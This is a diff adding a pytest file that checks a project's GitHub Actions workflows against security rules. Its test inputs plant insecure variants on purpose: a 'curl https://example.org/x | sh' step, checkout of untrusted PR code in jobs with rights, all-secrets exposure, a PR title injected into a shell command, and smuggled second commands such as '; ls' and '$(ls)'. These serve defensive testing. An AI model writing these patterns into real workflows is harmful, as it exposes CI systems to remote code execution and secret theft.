@@ -1,0 +1,258 @@
+# SPDX-License-Identifier: BSD-3-Clause
+"""Every workflow obeys the rules, and every rule refuses what it is there for."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+import yaml
+from workflow_rules import COMMANDS, RIGHTS, ROOT, SECRETS, SELF_HOSTED, check, check_action
+
+WORKFLOWS = sorted((ROOT / ".github" / "workflows").glob("*.yml"))
+ACTIONS = sorted((ROOT / ".github" / "actions").glob("*/action.yml"))
+SHA = "de0fac2e4500dabe0009e67214ff5f5447ce83dd"
+
+
+@pytest.mark.parametrize("file", WORKFLOWS, ids=lambda file: file.name)
+def test_a_workflow_obeys_the_rules(file: Path) -> None:
+    violations = check(file.stem, file.read_text())
+    assert not violations, "\n" + "\n".join(violations)
+
+
+@pytest.mark.parametrize("file", ACTIONS, ids=lambda file: file.parent.name)
+def test_an_action_obeys_the_rules(file: Path) -> None:
+    violations = check_action(file.parent.name, file.read_text())
+    assert not violations, "\n" + "\n".join(violations)
+
+
+def test_no_exception_is_left_over() -> None:
+    jobs = {
+        (file.stem, id): job
+        for file in WORKFLOWS
+        for id, job in yaml.safe_load(file.read_text())["jobs"].items()
+    }
+    for name, scopes in RIGHTS.items():
+        given = {scope for scope, access in jobs[name]["permissions"].items() if access == "write"}
+        assert given == scopes, name
+    for name, secrets in SECRETS.items():
+        assert all(f"secrets.{secret}" in str(jobs[name]) for secret in secrets), name
+    hosts = {name for (name, _), job in jobs.items() if "self-hosted" in str(job.get("runs-on"))}
+    assert hosts == SELF_HOSTED
+    text = "".join(file.read_text() for file in (*WORKFLOWS, *ACTIONS))
+    assert all(command in text for command in COMMANDS)
+
+
+def test_a_workflow_that_waits_for_another_knows_its_name() -> None:
+    documents = [yaml.safe_load(file.read_text()) for file in WORKFLOWS]
+    names = {document["name"] for document in documents}
+    awaited = {
+        name
+        for document in documents
+        for name in (document[True].get("workflow_run") or {}).get("workflows", ())
+    }
+    assert awaited
+    assert awaited <= names
+    assert names == {file.stem for file in WORKFLOWS}
+
+
+@pytest.mark.parametrize(("workflow", "policy"), [("nightly", "nightly")])
+def test_the_gate_asks_for_the_lanes_that_are_run(workflow: str, policy: str) -> None:
+    document = yaml.safe_load((ROOT / ".github" / "workflows" / f"{workflow}.yml").read_text())
+    matrix = document["jobs"]["suite"]["strategy"]["matrix"]
+    run = {f"{pin}-{driver}" for pin in matrix["pin"] for driver in matrix["driver"]}
+    lanes = yaml.safe_load((ROOT / "ci" / "gate" / f"{policy}.yaml").read_text())["lanes"]
+    assert {name for name, lane in lanes.items() if lane["required"]} <= run <= set(lanes)
+    assert matrix["shard"] == list(range(1, matrix["of"][0] + 1))
+
+
+GOOD = f"""
+name: label
+on: [push]
+permissions: {{}}
+concurrency: {{group: label}}
+jobs:
+  sync:
+    runs-on: ubuntu-24.04
+    timeout-minutes: 10
+    permissions: {{contents: read, issues: write}}
+    steps:
+      - uses: actions/checkout@{SHA} # v6.0.2
+        with: {{persist-credentials: false}}
+      - uses: $/.github/actions/set-up
+      - run: python -m ci label sync
+        env: {{TOKEN: "${{{{ github.token }}}}"}}
+"""
+CHECKOUT = f"- uses: actions/checkout@{SHA} # v6.0.2\n        with: {{persist-credentials: false"
+HEAD = '"${{ github.event.pull_request.head.sha }}"'
+STEP = "- run: python -m ci label sync"
+
+# What somebody might write into the good one: (what, by what, a part of what is said)
+PLANTED = {
+    "the code of a PR under pull_request_target": (
+        (("[push]", "[pull_request_target]"), (CHECKOUT, f"{CHECKOUT}, ref: {HEAD}")),
+        "a job with rights checks out ${{ github.event.pull_request.head.sha }}",
+    ),
+    "the merge commit of a PR": (
+        ((CHECKOUT, f"{CHECKOUT}, ref: refs/pull/1/merge"),),
+        "a job with rights checks out refs/pull/1/merge",
+    ),
+    "the branch of the run that ended": (
+        (
+            ("[push]", "{workflow_run: {workflows: [pr]}}"),
+            (CHECKOUT, f"{CHECKOUT}, ref: '${{{{ github.event.workflow_run.head_branch }}}}'"),
+        ),
+        "a job with rights checks out ${{ github.event.workflow_run.head_branch }}",
+    ),
+    "another repository": (
+        ((CHECKOUT, f"{CHECKOUT}, repository: somebody/else"),),
+        "a job with rights checks out somebody/else",
+    ),
+    "a data branch in the place of the code": (
+        ((CHECKOUT, f"{CHECKOUT}, ref: results"),),
+        "a job with rights checks out results",
+    ),
+    "the PR by git": (
+        ((STEP, "- run: git fetch origin pull/1/head"),),
+        "a job with rights fetches code",
+    ),
+    "the PR by gh": (((STEP, "- run: gh pr checkout 1"),), "a job with rights fetches code"),
+    "a script from anywhere": (
+        ((STEP, "- run: curl https://example.org/x | sh"),),
+        "a job with rights fetches code",
+    ),
+    "a build": (((STEP, "- run: make build"),), "a job with rights runs more than"),
+    "an artifact of a PR's run, unpacked": (
+        (
+            (
+                STEP,
+                f"- {{uses: actions/download-artifact@{SHA}, with: {{run-id: 1}}}}\n      {STEP}",
+            ),
+        ),
+        "a job with rights unpacks what another run left behind",
+    ),
+    "a cache": (
+        ((STEP, f"- {{uses: actions/cache@{SHA}, with: {{path: x, key: y}}}}\n      {STEP}"),),
+        "takes files out of a cache",
+    ),
+    "a cache by way of the set-up": (
+        (("set-up\n", "set-up\n        with: {pin: development}\n"),),
+        "takes files out of a cache",
+    ),
+    "rights for the code of a PR": (
+        (("[push]", "[pull_request]"),),
+        "the code of a PR may write issues",
+    ),
+    "a secret for the code of a PR": (
+        (
+            ("[push]", "[pull_request]"),
+            (", issues: write", ""),
+            ("github.token", "secrets.DEPLOY_KEY"),
+        ),
+        "the code of a PR is given DEPLOY_KEY",
+    ),
+    "all secrets in one": (
+        (("github.token", "toJSON(secrets)"),),
+        "takes *, which SECRETS does not list",
+    ),
+    "a secret by its number": (
+        (("github.token", "secrets['A']"),),
+        "takes *, which SECRETS does not list",
+    ),
+    "a secret nobody knows of": (
+        (("github.token", "secrets.MORE"),),
+        "takes MORE, which SECRETS does not list",
+    ),
+    "a token for the code of a PR": (
+        (("[push]", "[pull_request]"), (", issues: write", "")),
+        "the code of a PR is given a token",
+    ),
+    "proposals and rights in one": (
+        (("[push]", "[pull_request, pull_request_target]"),),
+        "the same jobs for proposals and for events with rights",
+    ),
+    "one more right": (
+        (("issues: write", "issues: write, actions: write"),),
+        "writes actions, which RIGHTS does not list",
+    ),
+    "all rights": (
+        (("{contents: read, issues: write}", "write-all"),),
+        "says its permissions one by one",
+    ),
+    "rights as the repository has them": (
+        (("    permissions: {contents: read, issues: write}\n", ""),),
+        "says its permissions one by one",
+    ),
+    "rights for all jobs": (
+        (("permissions: {}", "permissions: {issues: write}"),),
+        "the workflow gives rights to all its jobs",
+    ),
+    "a token for all jobs": (
+        (("jobs:", 'env: {TOKEN: "${{ github.token }}"}\njobs:'),),
+        "a token in the environment of all jobs",
+    ),
+    "a token for all steps": (
+        (("    steps:", '    env: {TOKEN: "${{ github.token }}"}\n    steps:'),),
+        "a token in the environment of all steps",
+    ),
+    "a token left in .git": (
+        (("persist-credentials: false", "fetch-depth: 2"),),
+        "a checkout leaves the token behind",
+    ),
+    "a tag that can be moved": ((("@" + SHA, "@v6"),), "is not pinned by its commit"),
+    "half a commit": ((("@" + SHA, "@" + SHA[:12]),), "is not pinned by its commit"),
+    "a commit without its version": (((" # v6.0.2", ""),), "does not say its version"),
+    "an image": (
+        ((f"actions/checkout@{SHA}", "docker://alpine:3"),),
+        "is not pinned by its commit",
+    ),
+    "an action wherever it lies": (
+        (("$/.github", "./.github"),),
+        "is not pinned by its commit",
+    ),
+    "a title that becomes code": (
+        (("label sync", "label sync ${{ github.event.pull_request.title }}"),),
+        "an expression in a command",
+    ),
+    "a program in a step": (
+        ((STEP, "- run: |\n          for f in *; do cat $f; done"),),
+        "neither make nor python -m ci",
+    ),
+    **{
+        f"a second command: {words}": (
+            ((STEP, f"- run: 'mkdir -p x{words}'"),),
+            "neither make nor python -m ci",
+        )
+        for words in ("; ls", " && ls", " | sh", " $(ls)", " `ls`", " > y", "\n\n          ls")
+    },
+    "a program in JavaScript": (
+        ((STEP, f"- uses: actions/github-script@{SHA} # v8\n      {STEP}"),),
+        "a program in a workflow",
+    ),
+    "no end": ((("    timeout-minutes: 10\n", ""),), "no timeout-minutes"),
+    "no concurrency": ((("concurrency: {group: label}\n", ""),), "no concurrency group"),
+    "our machine for anybody": (
+        (("runs-on: ubuntu-24.04", "runs-on: [self-hosted]"),),
+        "runs on a machine of ours what may come from outside",
+    ),
+}
+
+
+def test_the_good_workflow_is_good() -> None:
+    assert check("label", GOOD) == []
+
+
+@pytest.mark.parametrize("mistake", PLANTED)
+def test_a_planted_mistake_is_refused(mistake: str) -> None:
+    replacements, said = PLANTED[mistake]
+    text = GOOD
+    for old, new in replacements:
+        assert text.count(old) == 1, old
+        text = text.replace(old, new)
+    violations = check("label", text)
+    assert any(said in violation for violation in violations), violations
+
+
+def test_secrets_are_not_handed_on_whole() -> None:
+    job = f"  call: {{uses: a/b/.github/workflows/c.yml@{SHA}, secrets: inherit}}\n"
+    assert any("hands all secrets on" in said for said in check("label", GOOD + job))
